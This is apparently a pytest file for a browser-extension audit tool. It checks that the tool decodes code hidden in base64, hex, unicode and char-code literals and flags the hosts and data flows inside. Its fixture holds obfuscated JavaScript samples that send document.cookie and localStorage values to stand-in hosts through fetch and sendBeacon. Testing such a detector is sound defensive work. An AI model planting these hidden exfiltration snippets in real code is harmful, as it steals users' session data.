"""Code hidden in encoded literals."""

import base64
import json

import pytest
from pyspark.sql import functions as F

from packsift.operators import layers
from packsift.plans.audit import Audit


def hidden(code):
    return f'eval(atob("{base64.b64encode(code.encode()).decode()}"))'


INNER = 'fetch("https://inner.example.org/x", { body: document.cookie });'
SCRIPTS = {
    "one": "let a = 1;\n\n" + hidden(INNER),
    "two": "// top\n" + hidden("const deep = 1;\n" + hidden('navigator.sendBeacon("https://deep.example.net/y", localStorage.getItem("s"));')),
    "eval": 'eval("let u = \\"https://said.example.com\\";\\nfetch(u)");',
    "escapes": 'const h = "\\x68\\x69\\x64\\x2e\\x69\\x6f";\nconst u = \'\\u0061\\u0062\\u0063\';',
    "codes": "run(String.fromCharCode(104, 105, 46, 105, 111));",
    "shared": 'const key = document.cookie;\n' + hidden('fetch("https://shared.example.org", { body: key })'),
    "broken": 'atob("!!!"); atob("gICA"); String.fromCharCode(1, 2); eval("open',
    "twice": '"\\x5c\\x78\\x34\\x31\\x5c\\x78\\x34\\x31\\x5c\\x78\\x34\\x31"',  # escapes that decode to escapes
    "empty": "",
}


class Scripts(Audit):
    def __init__(self, spark, scripts):
        self.scripts = spark.createDataFrame([(k, "a.js", v) for k, v in scripts.items()], "ext_id string, path string, raw string")
        self.manifest_texts = spark.createDataFrame([(k, json.dumps({"manifest_version": 3, "name": "n", "version": "1"})) for k in scripts], "ext_id string, text string")
        self.packages = self.manifest_texts.select("ext_id")
        self.extra_files = spark.createDataFrame([], "ext_id string, path string, text string")


@pytest.fixture(scope="module")
def audit(spark):
    return Scripts(spark, SCRIPTS)


def by_case(rows, *columns):
    out = {}
    for r in rows.collect():
        out.setdefault(r.ext_id, set()).add(tuple(r[c] for c in columns))
    return out


def test_layers_know_their_parents_and_places(audit):
    rows = {(r.ext_id, r.layer): r for r in audit.layers.collect()}
    one = rows["one", "base64.0"]
    assert (one.parent, one.depth, one.line, one.decoded) == ("", 1, 3, INNER)
    assert SCRIPTS["one"][one.offset - 1:].startswith('atob("')
    assert {k[1] for k in rows if k[0] == "two"} == {"base64.0", "base64.0/base64.0"}
    deep = rows["two", "base64.0/base64.0"]
    assert (deep.parent, deep.depth, deep.line) == ("base64.0", 2, 2)
    assert rows["two", "base64.0"].decoded[deep.offset - 1:].startswith('atob("')
    assert rows["eval", "eval_body.0"].decoded == 'let u = "https://said.example.com";\nfetch(u)'
    assert {rows["escapes", n].decoded for n in ("hex.0", "unicode.0")} == {"hid.io", "abc"}
    assert rows["codes", "char_codes.0"].decoded == "hi.io"
    assert [r.decoded for k, r in sorted(rows.items()) if k[0] == "twice"] == ["\\x41\\x41\\x41", "AAA"]
    assert not any(k[0] in ("broken", "empty") for k in rows)


def test_hidden_hosts_and_flows_are_found(audit):
    contacts = by_case(audit.contacts, "domain", "line")
    assert contacts["one"] == {("inner.example.org", 3)} and contacts["two"] == {("deep.example.net", 2)}
    assert contacts["eval"] == {("said.example.com", 1)} and contacts["shared"] == {("shared.example.org", 2)}
    flows = by_case(audit.flows, "source", "line")
    assert flows["one"] == {("document.cookie", 3)} and flows["two"] == {("sensitive API source localStorage.getItem", 2)}
    assert flows["shared"] == {("document.cookie", 2)}  # a variable of the file, used in its layer
    assert ("hid.io", 1) in by_case(audit.domains_in_code, "domain", "line")["escapes"]
    urls = by_case(audit.urls, "url")
    assert ("https://inner.example.org/x",) in urls["one"] and len(urls["eval"]) == 1
    flags = {r.ext_id: r.uses_fetch for r in audit.files.collect()}
    assert flags["one"] and flags["shared"] and not flags["two"] and not flags["codes"]


def test_statements_of_layers_have_numbers_of_their_own(audit):
    rows = audit.statements.groupBy("ext_id", "path", "line", "stmt_no").count()
    assert rows.filter("count > 1").count() == 0
    assert audit.statements.filter(F.col("stmt_no") > layers.FIRST_NUMBER).count() > 5


def test_many_literals_in_one_file(spark):
    many = "x = [" + ",".join('"\\x61\\x62\\x63"' for _ in range(20_000)) + "];"
    found = layers.layers(spark.createDataFrame([("m", "a.js", many)], "ext_id string, path string, raw string"))
    last = found.orderBy(F.desc("offset")).first()
    assert found.count() == 20_000 and last.layer == "hex.19999" and many[last.offset - 1:].startswith('"\\x61\\x62\\x63"]')
